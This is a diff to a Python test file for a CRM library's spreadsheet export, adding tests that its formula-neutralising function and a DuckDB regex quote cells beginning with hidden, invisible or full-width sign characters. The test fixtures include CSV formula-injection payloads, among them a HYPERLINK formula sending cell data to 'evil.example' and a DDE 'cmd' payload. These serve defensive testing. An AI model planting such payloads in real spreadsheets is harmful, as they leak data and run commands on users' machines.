@@ -18,14 +18,41 @@ from crmlib.segments import write_segment_exports
 from crmlib.segments.xlsx import write_xlsx
 
 PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
-           "\tTAB=1", "\rCR=1", "=cmd|' /C calc'!A0"]
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+           "\tTAB=1", "\rCR=1", "=cmd|' /C calc'!A0", "\uff1dHYPERLINK(\"http://evil\")", "\uff0b1+1",
+           "\uff20SUM(A1)", "\uff0d1+1"]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\ufeff", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ")
 
 
 def test_neutralise_formulas_by_hand():
     values = pd.Series(["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", "a=b", "'=already", ""], dtype="str")
     assert neutralise_formulas(values).tolist() == [
         "'=1+1", "'+x", "'-y", "'@z", "'\tq", "'\rr", "ok", "a=b", "'=already", ""]
+
+
+# A sign after whitespace, a control or an invisible character, or a full-width / small sign:
+# spreadsheets trim the first and read the second as ASCII on input (issue #19 item 15).
+HIDDEN_SIGNS = ["\n=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0bSUM(1)", "\uff0d2+3", "\uff20SUM(A1)",
+                " =1+1", "\u3000=1+1", "\x00=1", "\u200b+1", "\u00a0-1", "\ufe661", "\u22121+1"]
+HARMLESS = ["ok", "a=b", "12-345", "\u3000ok", " x", "\ufeffC001", "\uff21\uff22"]
+
+
+def test_neutralise_formulas_hidden_and_full_width_signs():
+    values = pd.Series(HIDDEN_SIGNS + HARMLESS, dtype="str")
+    assert neutralise_formulas(values).tolist() == ["'" + v for v in HIDDEN_SIGNS] + HARMLESS
+
+
+def test_duckdb_lists_quote_the_same_cells_as_pandas():
+    """The CSV lists are written by DuckDB with the same pattern (RE2): same cells quoted."""
+    import duckdb
+
+    from crmlib.safe_cells import FORMULA_START
+    from crmlib.sql import sql_literal
+
+    values = HIDDEN_SIGNS + HARMLESS + PLANTED
+    flags = duckdb.connect().execute(
+        f"SELECT regexp_matches(x, {sql_literal(FORMULA_START)}) FROM unnest(?) WITH ORDINALITY t(x, i) ORDER BY i",
+        [values]).fetchall()
+    assert [f[0] for f in flags] == [True] * len(HIDDEN_SIGNS) + [False] * len(HARMLESS) + [True] * len(PLANTED)
 
 
 @pytest.fixture()
